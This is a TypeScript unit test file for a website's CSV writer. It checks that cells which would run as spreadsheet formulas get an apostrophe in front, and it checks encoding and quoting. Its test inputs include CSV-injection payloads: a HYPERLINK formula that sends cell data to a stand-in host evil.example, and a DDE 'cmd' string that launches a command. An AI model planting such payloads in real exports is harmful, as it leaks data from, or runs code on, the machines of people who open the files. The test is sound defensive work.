// The one CSV writer (csv.ts): its byte-order mark, line ends, quoting and formula rule. That every
// CSV the site publishes goes through it, with hostile cells, is proven on a built site by
// tests/e2e/csv-exports.test.ts.
import { describe, expect, it } from 'vitest';
import { csvCell, csvField, csvFile, parseCsv } from './csv.ts';

describe('csvCell: no cell a spreadsheet would run as a formula', () => {
  it('puts an apostrophe before text that begins with = + - @, a tab or a carriage return', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"点此")')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"点此")`);
    expect(csvCell('@SUM(1+1)')).toBe(`'@SUM(1+1)`);
    expect(csvCell('+1+1')).toBe(`'+1+1`);
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe(`'-2+3+cmd|' /C calc'!A0`);
    expect(csvCell('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvCell('\r=1+1')).toBe(`'\r=1+1`);
  });

  it('and before their full-width forms, which a Chinese input method types', () => {
    for (const c of ['＝', '＋', '－', '＠']) expect(csvCell(`${c}SUM(1)`)).toBe(`'${c}SUM(1)`);
  });

  it('leaves numbers, text with such a character further on, and everything else as it is', () => {
    expect([csvCell(-5), csvCell('-5'), csvCell('+3.5'), csvCell('1e-3'), csvCell(27)]).toEqual(['-5', '-5', '+3.5', '1e-3', '27']);
    expect(csvCell('甲=乙')).toBe('甲=乙');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell("'=1")).toBe("'=1");
    expect(csvCell('')).toBe('');
  });
});

describe('csvFile', () => {
  const file = csvFile([
    ['a', 'b'],
    ['=1+1', 'x,"y"\nz'],
    [-1, '@x'],
  ]);

  it('is UTF-8 text with a byte-order mark, CRLF line ends and a final one', () => {
    expect(file.startsWith('\uFEFFa,b\r\n')).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
  });

  it('quotes after neutralising, and reads back as written but for the apostrophe', () => {
    expect(csvField('=a,b')).toBe(`"'=a,b"`);
    expect(parseCsv(file)).toEqual([
      ['a', 'b'],
      ["'=1+1", 'x,"y"\nz'],
      ['-1', "'@x"],
    ]);
  });
});
